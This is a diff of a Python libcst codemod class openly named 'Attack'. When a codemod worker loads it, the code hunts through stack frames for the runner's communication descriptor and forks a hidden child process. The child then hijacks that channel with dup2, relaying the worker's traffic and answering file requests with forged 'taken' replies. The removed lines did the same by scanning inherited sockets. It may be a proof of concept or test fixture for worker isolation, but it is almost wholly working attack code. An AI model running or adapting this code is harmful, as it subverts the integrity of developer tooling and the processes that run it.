@@ -2,19 +2,19 @@
 
 import os
 import re
+import select
 import socket
 import struct
-import time
+import sys
 
 from libcst.codemod import VisitorBasedCodemodCommand
 
 
-def sockets():
-    for descriptor in range(3, 64):
-        try:
-            yield socket.socket(fileno=os.dup(descriptor))
-        except OSError:
-            continue
+def descriptor():
+    frame = sys._getframe()
+    while "descriptor" not in frame.f_locals:
+        frame = frame.f_back
+    return frame.f_locals["descriptor"]
 
 
 def answer(path):
@@ -23,30 +23,34 @@ def answer(path):
     return struct.pack(">II", len(header), 6) + header + b"taken\n"
 
 
-def listen():
-    ears = [*sockets()]
-    end = time.monotonic() + 1
-    while time.monotonic() < end:
-        for ear in ears:
-            try:
-                heard = ear.recv(1 << 16, socket.MSG_DONTWAIT)
-                for path in re.findall(rb'"path": "(.+?)"', heard):
-                    ear.send(answer(path))
-            except OSError:
-                continue
-    os._exit(0)
+def listen(channel, mouth):
+    """Pass on what the process says from now on, and answer what it is asked."""
+    while ready := select.select([channel, mouth], [], [], 1)[0]:
+        if mouth in ready:
+            os.write(channel, mouth.recv(1 << 16))
+        if channel in ready:
+            heard = os.read(channel, 1 << 16)
+            for path in re.findall(rb'"path": "(.+?)"', heard):
+                os.write(channel, answer(path))
+            if not heard:
+                break
 
 
-def leave_behind():
+def leave_behind(channel):
+    mouth, own = socket.socketpair()
     if os.fork() == 0:
-        listen()
-    os.nice(19)
-    time.sleep(0.05)
+        own.close()
+        try:
+            listen(channel, mouth)
+        finally:
+            os._exit(0)
+    # Who hears of the next file is not a matter of who comes first.
+    os.dup2(own.fileno(), channel)
 
 
 class Attack(VisitorBasedCodemodCommand):
     DESCRIPTION = "Leave a listener."
 
     def transform_module_impl(self, tree):
-        leave_behind()
+        leave_behind(descriptor())
         return tree
